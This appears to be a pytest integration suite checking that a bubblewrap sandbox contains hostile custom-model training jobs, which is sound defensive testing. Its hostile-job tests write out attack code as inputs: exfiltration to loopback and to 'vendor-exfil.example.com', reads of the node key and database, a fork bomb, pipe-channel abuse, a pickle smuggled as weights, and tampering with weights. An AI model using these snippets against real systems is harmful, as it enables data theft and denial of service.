"""Jobs in the real bubblewrap sandbox, including hostile job code (issue #4).

Each hostile job is a custom model whose code attacks the node from inside
the sandbox. Every attack must be stopped, the job must end FAILED or
BLOCKED with a clear reason and an incident in the audit log, the budget
must be charged exactly the job's reservation, and the node must go on
running honest jobs.
"""

from __future__ import annotations

import json
import shutil
import socket
import textwrap
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from custos.core import PolicyDenied, SigningKey
from custos.core._errors import CustosError
from custos.core._schema import budget_entries
from custos.jobs import JobState, sign_spec
from custos.ledger import verify_bundle
from custos.ledger._budget import EntryStatus
from custos.node import Node, add_dua, approve_job, get_job, register_dataset, run_job, submit_job
from custos.policy import InstitutionalPolicy
from custos.policy._institutional import SandboxPolicy
from tests.conftest import dump_yaml, load_yaml
from tests.node.test_jobs import spec_from

pytestmark = [
    pytest.mark.integration,
    pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed"),
]

FAST = {"training__epochs": 5}
LINEAR = """
from torch import nn

def build_model(n_features):
    return nn.Linear(n_features, 1)
"""


def _policy(**sandbox: Any) -> InstitutionalPolicy:
    return InstitutionalPolicy(
        allowed_models=["logistic_regression", "mlp", "custom"],
        sandbox=SandboxPolicy(**{"memory_mb": 4096, "wall_seconds": 120, **sandbox}),
    )


@pytest.fixture
def sandboxed(node: Node, workdir: Path) -> Node:
    """A node whose DUA accepts only the bubblewrap sandbox and allows custom code."""
    node.policy = _policy()
    dua = load_yaml(workdir / "dua.yaml")
    dua["isolation"]["accepted"] = ["bubblewrap"]
    dua["models"] = {"custom_code": True}
    dump_yaml(dua, workdir / "dua.yaml")
    register_dataset(node, "wdbc", workdir / "wdbc.csv", workdir / "card.yaml")
    add_dua(node, workdir / "dua.yaml")
    return node


def _approved(node: Node, workdir: Path, key: SigningKey, nonce: str, **changes: Any) -> str:
    spec = spec_from(workdir, nonce=nonce, **{**FAST, **changes})
    job = submit_job(node, sign_spec(spec, key), expected=spec)
    assert job.state is JobState.PENDING_APPROVAL, job.decision.failures
    return approve_job(node, job.id, approver="dr-lee").id


def _custom(source: str) -> dict[str, Any]:
    return {"model": {"arch": "custom", "source": textwrap.dedent(source)}}


def _ledger(node: Node, job_id: str) -> list[Any]:
    with node.store.read() as conn:
        q = select(budget_entries).where(budget_entries.c.job_id == job_id)
        return list(conn.execute(q).all())


def _incidents(node: Node, job_id: str) -> list[dict[str, Any]]:
    with node.store.read() as conn:
        return [
            e.details
            for e in node.audit.entries(conn, action="incident.opened")
            if e.details.get("job") == job_id
        ]


def _hostile(node: Node, workdir: Path, key: SigningKey, nonce: str, source: str) -> CustosError:
    """Run a hostile custom job; check the outcome every hostile job must share."""
    job_id = _approved(node, workdir, key, nonce, **_custom(source))
    with pytest.raises(CustosError) as exc:
        run_job(node, job_id)
    job = get_job(node, job_id)
    assert job.state in (JobState.FAILED, JobState.BLOCKED)
    incidents = _incidents(node, job_id)
    assert len(incidents) == 1
    assert incidents[0]["code"] == exc.value.code
    # Charged exactly its reservation: one committed entry, nothing else open.
    rows = _ledger(node, job_id)
    assert [r.status for r in rows] == [EntryStatus.COMMITTED.value]
    assert not (node.settings.home / "releases" / job_id).exists()
    return exc.value


def _honest_job_still_runs(node: Node, workdir: Path, key: SigningKey) -> None:
    job_id = _approved(node, workdir, key, "after")
    report = run_job(node, job_id)
    assert report.job.state is JobState.RELEASED
    with node.store.read() as conn:
        assert node.audit.verify(conn, node.key.public_key).ok


# -- honest jobs -------------------------------------------------------------


def test_a_catalog_job_trains_in_the_sandbox_with_an_attested_receipt(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey
) -> None:
    job_id = _approved(sandboxed, workdir, vendor_key, "catalog")
    steps: list[int] = []
    report = run_job(sandboxed, job_id, progress=lambda s, n, loss: steps.append(s))
    assert report.job.state is JobState.RELEASED
    assert steps and steps[-1] == report.privacy["dp_sgd"]["steps"]
    assert report.metrics["accuracy"] > 0.8
    verified = verify_bundle(report.bundle, sandboxed.key.public_key)
    iso = verified.predicate["isolation"]
    assert iso["kind"] == "bubblewrap"
    assert iso["tee"] == "none"
    assert iso["sandbox"]["backend"] == "bubblewrap"
    assert iso["sandbox"]["config_hash"].startswith("sha256:")
    m = iso["attestation"]["measurement"]
    assert m["spec_hash"] == report.job.spec_hash
    assert m["harness_sha256"].startswith("sha256:")
    assert verified.predicate["model_code"]["kind"] == "catalog"


def test_a_tampered_attestation_fails_receipt_verification(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey, tmp_path: Path
) -> None:
    from custos.core import canonical_json, dsse_sign
    from custos.ledger import PAYLOAD_TYPE, RECEIPT_FILE

    report = run_job(sandboxed, _approved(sandboxed, workdir, vendor_key, "tamper-att"))
    bundle = tmp_path / "b"
    shutil.copytree(report.bundle, bundle)
    stmt = verify_bundle(bundle, sandboxed.key.public_key).statement
    # Even re-signed by the node key, evidence that claims another sandbox
    # configuration no longer matches what the node signed in the evidence.
    stmt["predicate"]["isolation"]["attestation"]["measurement"]["sandbox"]["limits"][
        "memory_bytes"
    ] = 1
    env = dsse_sign(PAYLOAD_TYPE, canonical_json(stmt), sandboxed.key)
    (bundle / RECEIPT_FILE).write_text(json.dumps(env))
    with pytest.raises(CustosError) as exc:
        verify_bundle(bundle, sandboxed.key.public_key)
    assert any(d.startswith("attestation:") for d in exc.value.details)


def test_approved_custom_code_trains_in_the_sandbox_and_the_receipt_says_so(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey
) -> None:
    job_id = _approved(sandboxed, workdir, vendor_key, "custom-ok", **_custom(LINEAR))
    report = run_job(sandboxed, job_id)
    assert report.job.state is JobState.RELEASED
    pred = verify_bundle(report.bundle, sandboxed.key.public_key).predicate
    assert pred["model_code"]["kind"] == "custom"
    assert "review" in pred["model_code"]["guarantee"]
    card = json.loads((report.bundle / "model.json").read_text())
    assert "source" not in card["model"]
    from custos.training import load_released

    model, _ = load_released(report.bundle, custom_source=textwrap.dedent(LINEAR))
    assert model.net.inner.weight.shape == (1, len(card["features"]))


def test_custom_code_never_runs_in_the_node_process(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey
) -> None:
    from custos.jobs import parse_spec
    from custos.training._catalog import build_model

    spec = parse_spec({**load_yaml(workdir / "job.yaml"), **_custom("raise SystemExit(3)")})
    with pytest.raises(PolicyDenied) as exc:
        build_model(spec.model, 3)
    assert exc.value.code == "model.custom_outside_sandbox"


def test_custom_code_needs_the_dua_and_a_sandbox(
    node: Node, workdir: Path, vendor_key: SigningKey
) -> None:
    node.policy = InstitutionalPolicy(
        allowed_models=["logistic_regression", "mlp", "custom"], allow_isolation_none=True
    )
    register_dataset(node, "wdbc", workdir / "wdbc.csv", workdir / "card.yaml")
    add_dua(node, workdir / "dua.yaml")  # the example DUA: no custom code
    spec = spec_from(workdir, nonce="c1", **_custom(LINEAR))
    job = submit_job(node, sign_spec(spec, vendor_key), expected=spec)
    assert job.state is JobState.REJECTED
    assert "model.custom_code_not_allowed" in {r.code for r in job.decision.failures}
    dua = load_yaml(workdir / "dua.yaml")
    dua["models"] = {"custom_code": True}
    dua["isolation"]["accepted"] = ["none"]
    dump_yaml(dua, workdir / "dua.yaml")
    add_dua(node, workdir / "dua.yaml")
    spec = spec_from(workdir, nonce="c2", **_custom(LINEAR))
    job = submit_job(node, sign_spec(spec, vendor_key), expected=spec)
    assert job.state is JobState.REJECTED
    assert "isolation.unavailable" in {r.code for r in job.decision.failures}


def test_no_sandbox_means_no_run_unless_the_dua_allows_none(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey, monkeypatch: pytest.MonkeyPatch
) -> None:
    from custos.node import _execute

    job_id = _approved(sandboxed, workdir, vendor_key, "nobwrap")
    monkeypatch.setattr(_execute, "probe_cached", lambda: (False, "bubblewrap is not installed"))
    with pytest.raises(PolicyDenied) as exc:
        run_job(sandboxed, job_id)
    assert exc.value.code == "isolation.unavailable"
    assert any("bubblewrap is not installed" in d for d in exc.value.details)
    assert get_job(sandboxed, job_id).state is JobState.REJECTED
    assert _ledger(sandboxed, job_id) == []


def test_a_sandbox_that_fails_at_start_refuses_the_job_and_spends_nothing(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey, monkeypatch: pytest.MonkeyPatch
) -> None:
    from custos.sandbox import _bwrap

    job_id = _approved(sandboxed, workdir, vendor_key, "badstart")
    real = _bwrap.build_argv
    monkeypatch.setattr(
        _bwrap,
        "build_argv",
        lambda *a, **k: [real(*a, **k)[0], "--bogus-option", *real(*a, **k)[1:]],
    )
    with pytest.raises(CustosError) as exc:
        run_job(sandboxed, job_id)
    assert exc.value.code == "sandbox.setup_failed"
    assert get_job(sandboxed, job_id).state is JobState.FAILED
    assert [r.status for r in _ledger(sandboxed, job_id)] == [EntryStatus.RELEASED.value]


# -- hostile jobs --------------------------------------------------------------


def test_a_job_cannot_open_a_socket_even_to_loopback(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey
) -> None:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(0.5)
    port = server.getsockname()[1]
    try:
        err = _hostile(
            sandboxed,
            workdir,
            vendor_key,
            "sock",
            f"""
            import socket
            socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen")
            """,
        )
        assert err.code == "sandbox.denied"
        with pytest.raises(TimeoutError):
            server.accept()
    finally:
        server.close()
    _honest_job_still_runs(sandboxed, workdir, vendor_key)


def test_a_job_cannot_resolve_a_host_name(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey
) -> None:
    err = _hostile(
        sandboxed,
        workdir,
        vendor_key,
        "dns",
        """
        import socket
        socket.getaddrinfo("vendor-exfil.example.com", 443)
        """,
    )
    assert err.code == "sandbox.denied"


def test_a_job_cannot_read_the_node_key_database_or_other_datasets(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey, tmp_path: Path
) -> None:
    other = tmp_path / "other.csv"
    other.write_text((workdir / "wdbc.csv").read_text())
    card = load_yaml(workdir / "card.yaml")
    card["name"] = "other"
    register_dataset(sandboxed, "other", other, dump_yaml(card, tmp_path / "other.yaml"))
    home = sandboxed.settings.home
    targets = [str(p) for p in (home / "node.key", home / "custos.db", other, workdir / "wdbc.csv")]
    err = _hostile(
        sandboxed,
        workdir,
        vendor_key,
        "read",
        f"""
        import errno
        opened = []
        for path in {targets!r}:
            try:
                opened.append(len(open(path, "rb").read()))
            except OSError:
                pass
        if opened:
            raise RuntimeError("read a protected file")
        raise OSError(errno.ENOENT, "every protected file was out of reach")
        """,
    )
    assert err.code == "sandbox.denied"


def test_a_job_cannot_write_outside_its_workspace(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey
) -> None:
    import custos

    target = Path(custos.__file__).parent / "planted.py"
    err = _hostile(
        sandboxed,
        workdir,
        vendor_key,
        "write",
        f"""
        open({str(target)!r}, "w").write("import os")
        """,
    )
    assert err.code == "sandbox.denied"
    assert not target.exists()


def test_a_fork_bomb_is_stopped(sandboxed: Node, workdir: Path, vendor_key: SigningKey) -> None:
    err = _hostile(
        sandboxed,
        workdir,
        vendor_key,
        "fork",
        """
        import os
        while True:
            os.fork()
        """,
    )
    assert err.code == "sandbox.denied"
    _honest_job_still_runs(sandboxed, workdir, vendor_key)


def test_model_code_that_misbehaves_only_in_the_audit_is_caught_there(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey
) -> None:
    """The audit's runs are sandboxed like training: the second build of the
    model (the audit scoring the released weights) tries the network."""
    err = _hostile(
        sandboxed,
        workdir,
        vendor_key,
        "audit-net",
        """
        import os
        import socket
        from torch import nn

        def build_model(n_features):
            # The source runs afresh for every build: count in the process.
            built = int(os.environ.get("BUILT", "0")) + 1
            os.environ["BUILT"] = str(built)
            if built > 1:
                socket.create_connection(("192.0.2.1", 443), timeout=2)
            return nn.Linear(n_features, 1)
        """,
    )
    assert err.code == "sandbox.denied"
    job = get_job(sandboxed, err_job(sandboxed))
    assert job.state is JobState.BLOCKED  # it trained: blocked at the audit, not failed


def err_job(node: Node) -> str:
    from custos.node import list_jobs

    return next(j.id for j in list_jobs(node) if j.spec.nonce == "audit-net")


def test_memory_past_the_limit_is_stopped(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey
) -> None:
    sandboxed.policy = _policy(memory_mb=3072)
    err = _hostile(
        sandboxed,
        workdir,
        vendor_key,
        "mem",
        """
        hoard = [bytearray(256 << 20) for _ in range(64)]
        """,
    )
    assert err.code in ("sandbox.memory_limit", "sandbox.killed")


def test_an_endless_loop_is_killed_at_the_wall_clock_limit(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey
) -> None:
    sandboxed.policy = _policy(wall_seconds=15)
    err = _hostile(
        sandboxed,
        workdir,
        vendor_key,
        "loop",
        """
        while True:
            pass
        """,
    )
    assert err.code == "sandbox.wall_clock"
    _honest_job_still_runs(sandboxed, workdir, vendor_key)


# Vendor code that finds the harness's channel to the node and writes to it.
_CHANNEL = """
import os, stat
from custos.sandbox._protocol import encode

def channel():
    err = os.readlink("/proc/self/fd/2")
    for fd in range(3, 64):
        try:
            link = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if link.startswith("pipe:") and link != err and os.get_blocking(fd) is not None:
            try:
                os.write(fd, b"")
            except OSError:
                continue
            return fd
    raise RuntimeError("no channel")
"""


def test_an_oversized_output_is_refused(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey
) -> None:
    err = _hostile(
        sandboxed,
        workdir,
        vendor_key,
        "big",
        _CHANNEL
        + """
import struct
os.write(channel(), struct.pack(">II", 2, 1 << 31) + b"{}")
os._exit(0)
""",
    )
    assert err.code == "sandbox.frame_too_large"


def test_a_pickle_smuggled_as_weights_is_refused(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey
) -> None:
    err = _hostile(
        sandboxed,
        workdir,
        vendor_key,
        "pickle",
        _CHANNEL
        + """
import pickle
payload = pickle.dumps({"weight": [1.0]})
os.write(channel(), encode({"type": "result", "metrics": {"accuracy": 1.0},
    "steps_taken": 1, "train_seconds": 0.1, "weights_bytes": len(payload),
    "parameters": {"weight": [1]}}, payload))
os._exit(0)
""",
    )
    assert err.code == "sandbox.bad_weights"


def test_an_extra_file_cannot_be_smuggled_into_the_outputs(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey
) -> None:
    err = _hostile(
        sandboxed,
        workdir,
        vendor_key,
        "extra",
        _CHANNEL
        + """
open("/workspace/records.csv", "w").write("stolen")
os.write(channel(), encode({"type": "file", "name": "records.csv"}, b"stolen"))
os._exit(0)
""",
    )
    assert err.code == "sandbox.unknown_frame"


def test_files_left_in_the_workspace_never_leave(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey
) -> None:
    job_id = _approved(
        sandboxed,
        workdir,
        vendor_key,
        "leftover",
        **_custom(
            LINEAR
            + """
open("/workspace/extra.pkl", "wb").write(b"x")
"""
        ),
    )
    report = run_job(sandboxed, job_id)
    assert sorted(p.name for p in report.bundle.iterdir()) == [
        "leakage_report.html",
        "leakage_report.json",
        "metrics.json",
        "model.json",
        "privacy_report.json",
        "receipt.dsse.json",
        "weights.safetensors",
    ]


def test_a_model_that_rewrites_its_weights_outside_the_dp_step_is_refused(
    sandboxed: Node, workdir: Path, vendor_key: SigningKey
) -> None:
    err = _hostile(
        sandboxed,
        workdir,
        vendor_key,
        "tamper",
        """
        import torch
        from torch import nn

        class Sneaky(nn.Module):
            def __init__(self, n):
                super().__init__()
                self.lin = nn.Linear(n, 1)

            def forward(self, x):
                with torch.no_grad():
                    self.lin.bias.add_(0.5)  # smuggles a value past the noise
                return self.lin(x)

        def build_model(n_features):
            return Sneaky(n_features)
        """,
    )
    assert err.code == "model.tampered"
